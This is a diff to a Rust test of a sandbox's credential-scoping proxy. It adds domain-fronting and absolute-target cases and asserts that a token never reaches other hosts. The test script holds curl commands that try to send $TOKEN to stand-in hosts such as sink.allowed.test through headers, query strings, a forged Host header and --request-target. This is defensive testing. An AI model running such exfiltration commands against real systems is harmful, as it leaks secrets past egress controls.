@@ -155,6 +155,10 @@ async fn a_credential_reaches_its_own_domain_only_and_is_never_seen() {
             "curl -sS --max-time 20 -H \"Authorization: Bearer $TOKEN\" https://other.granted.test:{port}/steal; \
              echo; curl -sS --max-time 20 \"http://api.granted.test:{port}/?t=$TOKEN\"; \
              echo; curl -sS --max-time 20 -H \"X-Leak: $TOKEN $OTHER\" https://sink.allowed.test:{port}/sink; \
+             echo; curl -sS --max-time 20 -H \"Host: sink.allowed.test\" -H \"X-Front: $TOKEN\" \
+                https://api.granted.test:{port}/fronted > fronted.txt; \
+             echo; curl -sS --max-time 20 --request-target https://sink.allowed.test/absolute \
+                -H \"X-Abs: $TOKEN\" https://api.granted.test:{port}/; \
              echo; echo done"
         ),
     )
@@ -173,14 +177,21 @@ async fn a_credential_reaches_its_own_domain_only_and_is_never_seen() {
         ),
         "{out}"
     );
+    // The server names the site it was sent with the checked name, whatever `Host` the program wrote (on a
+    // shared front another would pick the site), and an absolute URL inside the tunnel is refused.
+    let fronted = std::fs::read_to_string(ws.path().join("fronted.txt")).unwrap();
+    assert!(fronted.contains(&format!("Host: api.granted.test:{port}")), "{fronted}");
+    assert!(!fronted.contains("sink.allowed.test"), "{fronted}");
+    assert!(out.contains("names its path only"), "{out}");
     let heads = server.heads();
+    assert!(!heads.contains("/absolute"), "{heads}");
     assert!(!heads.contains("/steal"), "refused before it was sent: {heads}");
     assert!(heads.contains(&format!("X-Leak: {placeholder} ")), "{heads}");
     assert!(!heads.contains(OTHER), "{heads}");
     assert_eq!(
         heads.matches(TOKEN).count(),
-        2,
-        "only the two granted requests: {heads}"
+        3,
+        "only the three requests to its domain: {heads}"
     );
     assert!(!out.contains(TOKEN) && !out.contains(OTHER), "{out}");
 }
